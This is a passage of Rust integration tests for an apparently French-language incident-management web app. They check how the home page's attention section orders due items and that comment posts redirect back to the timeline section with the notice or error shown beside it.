    let (_, html) = marc.page(&s.app, "/").await;
    let section = attention(html);
    let ready = section
        .find(&format!("href=\"/incidents/{}/plan#execute\"", s.incident))
        .unwrap_or_else(|| panic!("the ready plan in {section}"));
    assert!(
        section
            .contains("Plan approuvé, pas encore exécuté : Rollback applicatif + base de données"),
        "{section}"
    );
    assert!(
        !section.contains("attention-approval-waiting"),
        "approved: no longer waiting for anyone: {section}"
    );
    let check = section
        .find(&format!(
            "href=\"/incidents/{watched}/verification#monitoring\""
        ))
        .unwrap_or_else(|| panic!("the check due in {section}"));
    assert!(
        section.contains("Contrôle de surveillance n° 2 à confirmer maintenant"),
        "{section}"
    );
    assert!(!section.contains("n° 1 à confirmer"), "missed: {section}");
    let action = section
        .find(&format!(
            "href=\"/incidents/{watched}/post-mortem#actions\""
        ))
        .unwrap_or_else(|| panic!("the action in {section}"));
    assert!(
        section.contains("Ajouter un test de non-régression"),
        "{section}"
    );
    assert!(
        !section.contains("Revoir la checklist"),
        "not due yet: {section}"
    );
    assert!(
        ready < check && check < action,
        "most urgent first: {section}"
    );
    // The action is someone else's to Claire.
    let (_, html) = s.browser(CLAIRE).await.page(&s.app, "/").await;
    assert!(!attention(html).contains("Ajouter un test"));

    // The ready plan's link lands on its Execute form.
    let (_, plan) = marc.page(&s.app, &s.plan_page()).await;
    assert!(plan.contains("id=\"execute\""), "the execute form is there");
}

/// Issue 16 §6: after a post the browser comes back to the form's section of a long page,
/// with the message there rather than at the top.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_post_lands_back_on_its_form_with_the_message_next_to_it() {
    let s = scenario("application_database").await;
    let incident = s.incident.to_string();
    let page = format!("/incidents/{incident}");
    let claire = s.browser(CLAIRE).await;
    let (to, html) = claire
        .submit_and_follow(
            &s.app,
            &page,
            "/api/comment_incident",
            &[("incident_id", &incident), ("body", "Je regarde les logs.")],
        )
        .await;
    assert_eq!(to, format!("{page}#timeline"));
    let timeline = &html[html.find("id=\"timeline\"").expect("the timeline")..];
    let notice = timeline
        .find("Commentaire ajouté")
        .expect("the notice in the timeline section");
    assert!(notice < timeline.find("Je regarde les logs.").unwrap());
    let top = &html[..html.find("id=\"timeline\"").unwrap()];
    assert!(!top.contains("Commentaire ajouté"), "not at the top too");

    // A refusal: the same, with the error next to its field.
    let (to, html) = claire
        .submit_and_follow(
            &s.app,
            &page,
            "/api/comment_incident",
            &[("incident_id", &incident), ("body", "   ")],
        )
        .await;
    assert_eq!(to, format!("{page}#timeline"));
    let timeline = &html[html.find("id=\"timeline\"").unwrap()..];
    assert!(timeline.contains("class=\"error\""), "{timeline}");
}
